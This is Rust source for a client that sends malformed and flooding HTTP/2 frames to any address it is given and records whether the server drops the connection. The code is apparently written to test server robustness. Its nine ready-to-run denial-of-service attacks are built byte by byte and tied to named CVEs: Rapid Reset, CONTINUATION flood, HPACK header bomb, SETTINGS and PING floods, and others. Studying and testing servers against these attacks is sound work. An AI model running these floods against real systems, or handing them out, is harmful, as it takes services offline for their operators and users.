//! A client that misuses HTTP/2 in the known ways, byte by byte.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// How long a peer that takes no more bytes is waited for: it holds the client back.
const STALLED: Duration = Duration::from_secs(2);

/// A way of misusing it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Abuse {
    /// Requests that are reset at once (CVE-2023-44487).
    RapidReset,
    /// A head that never ends (CVE-2024-24549 and its kin).
    Continuation,
    /// Few bytes that say many, by the compressor's table.
    HeaderBomb,
    /// Data frames without data (CVE-2019-9518).
    EmptyData,
    /// Settings, each to be answered (CVE-2019-9515); no answer is read.
    Settings,
    /// Pings, each to be answered (CVE-2019-9512); no answer is read.
    Pings,
    /// Dependencies of streams that nobody opened (CVE-2019-9513).
    Priorities,
    /// Credit for more than there can be.
    WindowOverflow,
    /// Frames on streams that are closed.
    ClosedStreams,
}

impl Abuse {
    /// All of them.
    pub const ALL: [Self; 9] = [
        Self::RapidReset,
        Self::Continuation,
        Self::HeaderBomb,
        Self::EmptyData,
        Self::Settings,
        Self::Pings,
        Self::Priorities,
        Self::WindowOverflow,
        Self::ClosedStreams,
    ];

    /// Whether its frames are of no use to anybody, so that a peer has to end the connection.
    pub fn has_to_end(self) -> bool {
        matches!(self, Self::RapidReset | Self::Continuation | Self::WindowOverflow)
    }

    fn reads_answers(self) -> bool {
        !matches!(self, Self::Settings | Self::Pings)
    }

    /// The `index`th piece of it.
    fn piece(self, index: u32) -> Vec<u8> {
        let stream = 2 * index + 1;
        match self {
            Self::RapidReset => {
                let request = frame(HEADERS, END_STREAM | END_HEADERS, stream, &head());
                [request, frame(RST_STREAM, 0, stream, &CANCEL)].concat()
            }
            Self::Continuation if index == 0 => frame(HEADERS, END_STREAM, 1, &head()),
            Self::Continuation => frame(CONTINUATION, 0, 1, &literal(&format!("x-{index}"), &[b'y'; 1000])),
            Self::HeaderBomb => {
                let mut block = head();
                block.extend(indexed_literal("bomb", &[b'z'; 3800]));
                // The newest entry of the table, again and again.
                block.extend([0x80 | 62; 12_000]);
                frame(HEADERS, END_STREAM | END_HEADERS, stream, &block)
            }
            Self::EmptyData if index == 0 => frame(HEADERS, END_HEADERS, 1, &head()),
            Self::EmptyData => frame(DATA, 0, 1, &[]),
            Self::Settings => frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]),
            Self::Pings => frame(PING, 0, 0, &[7; 8]),
            Self::Priorities => frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 200]),
            Self::WindowOverflow => frame(WINDOW_UPDATE, 0, 0, &[0x7f, 0xff, 0xff, 0xff]),
            Self::ClosedStreams if index == 0 => {
                [frame(HEADERS, END_STREAM | END_HEADERS, 1, &head()), frame(RST_STREAM, 0, 1, &CANCEL)]
                    .concat()
            }
            Self::ClosedStreams => frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]),
        }
    }
}

/// What became of it.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Outcome {
    /// The peer said that it ends the connection (GOAWAY), or closed it.
    pub ended: bool,
    /// The peer took no more bytes.
    pub stalled: bool,
    /// How many pieces the peer took.
    pub pieces: u32,
}

/// Misuses a port that speaks HTTP/2 in the clear, `most` times at most, then says what became of it. The connection is
/// closed with that.
///
/// # Errors
/// When there is no connection at all.
pub async fn abuse(address: SocketAddr, how: Abuse, most: u32) -> std::io::Result<Outcome> {
    let tcp = TcpStream::connect(address).await?;
    let (mut from, mut to) = tcp.into_split();
    let reading = tokio::spawn(async move {
        if !how.reads_answers() {
            std::future::pending::<()>().await;
        }
        until_end(&mut from).await
    });
    let mut outcome = Outcome::default();
    let mut first = PREFACE.to_vec();
    first.extend(frame(SETTINGS, 0, 0, &[]));
    if to.write_all(&first).await.is_err() {
        return Ok(Outcome { ended: true, ..outcome });
    }
    for index in 0..most {
        match tokio::time::timeout(STALLED, to.write_all(&how.piece(index))).await {
            Ok(Ok(())) => outcome.pieces += 1,
            Ok(Err(_)) => outcome.ended = true,
            Err(_) => outcome.stalled = true,
        }
        if outcome.ended || outcome.stalled || reading.is_finished() {
            break;
        }
    }
    if how.has_to_end() && !outcome.ended {
        outcome.ended = reading.await.is_ok();
    } else {
        outcome.ended |= reading.is_finished();
        reading.abort();
    }
    Ok(outcome)
}

/// Reads until the peer ends the connection or says that it will.
async fn until_end(from: &mut (impl AsyncReadExt + Unpin)) {
    let mut head = [0; 9];
    while from.read_exact(&mut head).await.is_ok() {
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        if head[3] == GOAWAY || from.read_exact(&mut vec![0; length]).await.is_err() {
            return;
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    let mut out = length[1..].to_vec();
    out.extend([kind, flags]);
    out.extend(stream.to_be_bytes());
    out.extend(payload);
    out
}

/// `GET / HTTP/2` of `test`, compressed by the static table.
fn head() -> Vec<u8> {
    let mut block = vec![0x82, 0x84, 0x86, 0x41, 4];
    block.extend(b"test");
    block
}

/// A header that no table keeps.
fn literal(name: &str, value: &[u8]) -> Vec<u8> {
    header(0x00, name, value)
}

/// A header that the table keeps.
fn indexed_literal(name: &str, value: &[u8]) -> Vec<u8> {
    header(0x40, name, value)
}

fn header(first: u8, name: &str, value: &[u8]) -> Vec<u8> {
    let mut out = vec![first];
    for text in [name.as_bytes(), value] {
        // An integer of 7 bits' prefix (RFC 7541, 5.1).
        let mut left = text.len();
        if left < 127 {
            out.push(left as u8);
        } else {
            out.push(127);
            left -= 127;
            while left >= 128 {
                out.push((left % 128) as u8 | 0x80);
                left /= 128;
            }
            out.push(left as u8);
        }
        out.extend(text);
    }
    out
}
